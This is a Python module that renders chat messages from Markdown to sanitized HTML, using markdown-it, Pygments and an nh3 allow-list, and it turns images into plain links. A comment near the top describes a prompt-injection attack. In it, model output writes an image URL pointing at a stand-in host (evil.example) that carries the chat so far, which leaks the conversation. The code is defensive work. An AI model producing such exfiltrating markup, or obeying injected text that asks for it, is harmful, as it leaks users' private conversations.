"""Markdown → sanitized HTML for stored messages.

Order matters (cf. stored-XSS advisories where sanitizing ran before
rendering): render Markdown (CommonMark + tables, raw HTML disabled) with
Pygments highlighting, then sanitize the FINAL HTML with nh3's allow-list.
"""
from __future__ import annotations

from functools import lru_cache

import nh3
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

_FORMATTER = HtmlFormatter(nowrap=True, classstyle=True)

# No <img>: a reply is model output, and a prompt injection can make it
# write ![](https://evil.example/?d=<the chat so far>), which the browser
# would fetch with no click. Images become a plain link (`_image_as_link`);
# the CSP's img-src is the second line of defence.
_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "s", "code", "pre",
    "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td", "span", "div",
}
_ATTRIBUTES = {
    "a": {"href", "title"},
    "span": {"class"},
    "code": {"class"},
    "pre": {"class"},
    "div": {"class"},
    "th": {"style"},
    "td": {"style"},
    "ol": {"start"},
}


def _highlight(code: str, lang: str, attrs) -> str:
    try:
        lexer = get_lexer_by_name(lang.strip().split()[0]) if lang.strip() else None
    except ClassNotFound:
        lexer = None
    if lexer is None:
        return ""  # markdown-it escapes it itself
    return highlight(code, lexer, _FORMATTER)


def _image_as_link(self, tokens, idx, options, env) -> str:
    """An image is shown as a link with its alt text ("image: …"), which
    the reader may follow on purpose; nothing is fetched by itself."""
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env) or "image"
    src = escapeHtml(token.attrGet("src") or "")
    return f'<a href="{src}" class="image-link">[image: {escapeHtml(alt)}]</a>'


@lru_cache(maxsize=1)
def _md() -> MarkdownIt:
    # html=False: raw HTML in a message is shown as text, not interpreted;
    # nh3 below is the second line of defence.
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "highlight": _highlight}).enable("table").enable(
        "strikethrough"
    )
    md.add_render_rule("image", _image_as_link)
    return md


def render_markdown(text: str) -> str:
    if not text:
        return ""
    html = _md().render(text)
    return nh3.clean(
        html,
        tags=_TAGS,
        attributes=_ATTRIBUTES,
        url_schemes={"http", "https", "mailto"},
        link_rel="noopener noreferrer nofollow",
        filter_style_properties={"text-align"},
        strip_comments=True,
    )


def pygments_css() -> str:
    light = HtmlFormatter(style="default").get_style_defs(".md pre code")
    dark = HtmlFormatter(style="github-dark").get_style_defs(".md pre code")
    return light + "\n@media (prefers-color-scheme: dark) {\n" + dark + "\n}\n"
